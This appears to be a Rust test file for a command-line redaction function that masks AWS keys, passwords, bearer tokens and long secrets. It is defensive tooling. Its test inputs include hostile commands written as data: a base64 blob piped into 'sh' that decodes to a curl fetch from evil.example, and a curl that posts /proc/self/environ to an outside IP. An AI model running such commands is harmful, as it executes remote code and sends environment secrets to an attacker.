use super::*;

const SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";

#[test]
fn aws_access_key_ids_are_removed() {
    let r = redact("aws s3 cp x s3://b --key AKIAIOSFODNN7EXAMPLE");
    assert!(!r.text.contains("AKIAIOSFODNN7EXAMPLE"), "{}", r.text);
    let r = redact("echo ASIAIOSFODNN7EXAMPLE,done");
    assert_eq!(r.text, "echo [REDACTED],done");
    assert!(r.credential_hint);
}

#[test]
fn sensitive_assignments_lose_their_values() {
    let r = redact(&format!(
        "env AWS_SECRET_ACCESS_KEY={SECRET} DB_PASSWORD=hunter2 MODE=fast"
    ));
    assert_eq!(
        r.text,
        "env AWS_SECRET_ACCESS_KEY=[REDACTED] DB_PASSWORD=[REDACTED] MODE=fast"
    );
    assert!(r.credential_hint);
}

#[test]
fn sensitive_options_lose_their_values() {
    let r = redact("mysql --password hunter2 --user app");
    assert_eq!(r.text, "mysql --password [REDACTED] --user app");
    let r = redact("curl -H Authorization: Bearer abc.def.ghi https://x");
    assert_eq!(r.text, "curl -H Authorization: Bearer [REDACTED] https://x");
    let r = redact("tool --api-key=abc123 run");
    assert_eq!(r.text, "tool --api-key=[REDACTED] run");
}

#[test]
fn long_tokens_and_url_passwords_go() {
    let r = redact(&format!(
        "curl -d {SECRET} https://user:pa55@host.example/path"
    ));
    assert_eq!(
        r.text,
        "curl -d [REDACTED] https://user:[REDACTED]@host.example/path"
    );
    let blob = "ZWNobyAiaGVsbG8gd29ybGQiOyBjdXJsIGh0dHA6Ly9ldmlsLmV4YW1wbGUvc2gK";
    let r = redact(&format!("sh -c echo {blob}|base64 -d|sh"));
    assert_eq!(r.text, "sh -c echo [REDACTED]|base64 -d|sh");
}

#[test]
fn ordinary_command_lines_are_kept() {
    for text in [
        "/var/lang/bin/python3.12 -m awslambdaric handler.handler",
        "/usr/lib/python3/dist-packages/some_package/long_module_name.py --verbose",
        "sort -k2 -t, /tmp/report-2024-01-01.csv",
        "sha256sum 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "gzip -6 -c",
    ] {
        let r = redact(text);
        assert_eq!(r.text, text);
        assert!(!r.credential_hint);
    }
}

#[test]
fn reading_the_environment_through_proc_is_a_hint() {
    let r = redact("curl --data-binary @/proc/self/environ http://10.0.0.1:8080/");
    assert!(r.credential_hint);
    assert!(r.text.contains("/proc/self/environ"));
    assert!(redact("cat /proc/1/environ").credential_hint);
}
